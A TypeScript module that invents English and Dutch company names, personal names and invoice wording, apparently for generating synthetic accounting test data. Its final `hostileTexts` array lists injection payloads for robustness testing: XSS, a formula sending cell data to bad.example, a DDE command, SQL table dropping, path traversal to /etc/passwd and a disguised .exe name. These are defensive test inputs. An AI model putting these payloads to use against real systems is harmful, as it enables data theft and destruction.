/** Invented names of customers, suppliers and people. */
import type { Random } from '../random.ts';
import type { Region } from './chart.ts';

const english = {
  first: [
    'Harbour',
    'Kauri',
    'Totara',
    'Beacon',
    'Fernhill',
    'Copper',
    'Willow',
    'Northgate',
    'Saltmarsh',
    'Brookside',
    'Larkfield',
    'Tideline',
    'Ashdown',
    'Maple',
    'Pinnacle',
    'Riverbend',
    'Stonebridge',
    'Wavecrest',
    'Millbrook',
    'Foxglove',
    'Cobblestone',
    'Highfield',
    'Silverdale',
    'Oakwell',
    'Greenlane',
    'Summit',
    'Lantern',
    'Quayside',
  ],
  second: [
    'Cafe',
    'Joinery',
    'Motors',
    'Interiors',
    'Dental',
    'Landscapes',
    'Foods',
    'Electrical',
    'Plumbing',
    'Studio',
    'Catering',
    'Logistics',
    'Property',
    'Engineering',
    'Pharmacy',
    'Books',
    'Fitness',
    'Hotels',
    'Design',
    'Farms',
  ],
  ending: ['Ltd', 'Limited', '& Sons', 'Group', 'Trust', ''],
  people: ['Anna', 'Ben', 'Charlotte', 'Daniel', 'Emma', 'Finn', 'Grace', 'Hamish', 'Isla', 'Jack', 'Mere', 'Tama'],
  families: ['Aldous', 'Brightwell', 'Castleton', 'Dunmore', 'Eastwick', 'Fairburn', 'Garland', 'Hollis', 'Ngata'],
} as const;

const dutch = {
  first: [
    'De Linde',
    'Zuiderzee',
    'Van Houten',
    'Molenaar',
    'De Haven',
    'Polder',
    'Grachtzicht',
    'Noordwijk',
    'Veldzicht',
    'De Brug',
    'Rijnstroom',
    'Kastanje',
    'Oosterpark',
    'De Wilg',
    'Waterlinie',
    'Duinrand',
    'Lindehof',
    'Torenzicht',
    'De Kade',
    'Korenveld',
    'Zonneweide',
    'Beukenlaan',
    'De Sluis',
    'Maasdijk',
    'Heidezicht',
    'Vijverhof',
  ],
  second: [
    'Bouw',
    'Horeca',
    'Installatie',
    'Interieur',
    'Advies',
    'Transport',
    'Hoveniers',
    'Techniek',
    'Vastgoed',
    'Mode',
    'Bakkerij',
    'Tandartsen',
    'Fysio',
    'Uitgeverij',
    'Elektra',
    'Schilders',
    'Fietsen',
    'Optiek',
    'Catering',
  ],
  ending: ['BV', 'B.V.', 'VOF', '& Zn', '', 'Groep'],
  people: ['Anouk', 'Bram', 'Charlotte', 'Daan', 'Eva', 'Floor', 'Gijs', 'Hanna', 'Ilse', 'Jasper', 'Lotte', 'Sanne'],
  families: ['Van Dijk', 'De Groot', 'Bakker', 'Visser', 'Smit', 'Mulder', 'De Boer', 'Dekker', 'Hendriks', 'Jacobs'],
} as const;

/** `count` different company names. */
export function companyNames(random: Random, region: Region, count: number): string[] {
  const words = region === 'NL' ? dutch : english;
  const names = new Set<string>();
  let tries = 0;
  while (names.size < count) {
    tries += 1;
    const number = tries > count * 20 ? ` ${tries}` : '';
    names.add(`${random.pick(words.first)} ${random.pick(words.second)} ${random.pick(words.ending)}`.trim() + number);
  }
  return [...names];
}

/** First and last name of an invented person. */
export function personName(random: Random, region: Region): { readonly first: string; readonly last: string } {
  const words = region === 'NL' ? dutch : english;
  return { first: random.pick(words.people), last: random.pick(words.families) };
}

const texts = {
  NL: {
    work: ['Advies', 'Werkzaamheden', 'Onderhoudsbeurt', 'Levering materiaal', 'Installatie', 'Ontwerp', 'Training'],
    goods: ['Goederen volgens order', 'Grondstoffen', 'Materiaal', 'Inkoop handelsgoederen'],
    note: 'Zoals besproken, met dank voor de opdracht.',
    takings: 'Dagomzet',
  },
  EN: {
    work: [
      'Consulting',
      'Labour',
      'Service visit',
      'Materials supplied',
      'Installation',
      'Design work',
      'Training day',
    ],
    goods: ['Goods as ordered', 'Raw materials', 'Materials', 'Stock purchase'],
    note: 'As discussed, thank you for your business.',
    takings: 'Daily takings',
  },
} as const;

/** Words for document lines in the region's language. */
export const wordsFor = (region: Region): (typeof texts)['NL'] | (typeof texts)['EN'] =>
  region === 'NL' ? texts.NL : texts.EN;

/** Texts that break careless readers: markup, formulas, reading-direction marks, great length, quotes and line ends. */
export const hostileTexts: readonly string[] = [
  '<script>alert("hello")</script>',
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("https://bad.example/?q="&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '-2+3',
  'Invoice \u202Efdp.exe\u202C reversed',
  'Zero\u200Bwidth\u200D\uFEFF name',
  "Robert'); DROP TABLE invoices;--",
  'Quotes "double" and \'single\' and `back`',
  'Tab\tand\nnew line\r\nand ; semicolon, comma',
  '../../../../etc/passwd',
  '${7*7} {{7*7}} <%= 7*7 %>',
  'Ünïcödé 漢字 عربى 👩‍👩‍👧 Ő',
  'L'.repeat(255),
];
